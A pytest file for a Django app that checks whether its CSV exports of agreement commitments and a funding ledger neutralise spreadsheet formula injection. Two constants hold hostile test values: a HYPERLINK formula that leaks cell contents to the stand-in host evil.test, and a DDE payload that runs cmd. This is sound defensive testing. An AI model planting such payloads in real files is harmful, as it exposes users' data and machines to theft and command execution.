"""The agreements' CSV exports are safe to open in a spreadsheet (issue 10, finding 3): a
commitment title or an organisation name written like a formula arrives as text. The round
export is covered in tests/backend/allocations/test_exports.py."""

import csv
import datetime as dt
import io

from django.urls import reverse

from backend.agreements import services
from backend.offers.models import OfferKind, OfferStatus
from backend.organisations.models import OrganisationKind
from tests.factories import OfferFactory, OrganisationFactory

NOW = dt.datetime(2027, 3, 1, 9, 0, tzinfo=dt.UTC)
HOSTILE_TITLE = '=HYPERLINK("http://evil.test/?leak="&B2&D2,"Bekijk")'
HOSTILE_FUNDER = "@SUM(1+1)*cmd|' /C calc'!A0"


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode())))


def _accepted_agreement(cast):
    offer = OfferFactory(
        kind=OfferKind.CHALLENGE,
        owner=cast.bakkerij,
        contact=cast.jan,
        title="Nieuwe bestelwebsite",
        status=OfferStatus.PUBLISHED,
        starts_on=dt.date(2027, 3, 15),
        ends_on=dt.date(2027, 4, 15),
        schools=[cast.vista],
    )
    agreement = services.agreement_create_from_offer(
        offer=offer, school=cast.vista, actor=cast.bos, now=NOW
    )
    services.agreement_change(
        agreement=agreement, actor=cast.bos, now=NOW, mentoring_hours=8, deliverables="een site"
    )
    services.agreement_propose(agreement=agreement, actor=cast.bos, now=NOW)
    services.agreement_accept(agreement=agreement, actor=cast.jan, now=NOW)
    services.agreement_accept(agreement=agreement, actor=cast.bos, now=NOW)
    agreement.refresh_from_db()
    return agreement


def test_the_commitments_export_neutralises_a_hostile_commitment_title(cast, client_for):
    agreement = _accepted_agreement(cast)
    commitment = services.commitment_create(
        agreement=agreement,
        actor=cast.jan,
        owner=cast.jan,
        title=HOSTILE_TITLE,
        due_on=dt.date(2027, 4, 1),
        now=NOW,
    )
    rows = _rows(
        client_for(cast.bos).get(
            reverse("api:commitment-export-csv") + f"?agreement={agreement.pk}"
        )
    )
    [row] = [row for row in rows if row[2] == "'" + HOSTILE_TITLE]
    assert row == [
        str(agreement.pk),
        agreement.title,
        "'" + HOSTILE_TITLE,
        "Jan Jansen",
        "Bakkerij Jansen",
        "2027-04-01",
        commitment.status,
        "",
        "no",
    ]
    assert HOSTILE_TITLE not in [cell for row in rows for cell in row]


def test_the_ledger_export_neutralises_a_hostile_organisation_name(cast, client_for):
    funder = OrganisationFactory(name=HOSTILE_FUNDER, kind=OrganisationKind.FUNDER)
    services.pledge_create(
        consortium=cast.consortium,
        partner=cast.pixel,
        funder=funder,
        kind="cash",
        amount="250.00",
        period_start=dt.date(2027, 1, 1),
        period_end=dt.date(2027, 12, 31),
        actor=cast.bos,
    )
    rows = _rows(
        client_for(cast.bos).get(reverse("api:ledger-report-csv", args=[cast.consortium.pk]))
    )
    [funder_row] = [row for row in rows if row[0] == "funder"]
    assert funder_row[:3] == ["funder", "'" + HOSTILE_FUNDER, "250.00"]
    [partner_row] = [row for row in rows if row[0] == "partner"]
    assert partner_row[:3] == ["partner", "Pixelfabriek", "250.00"]
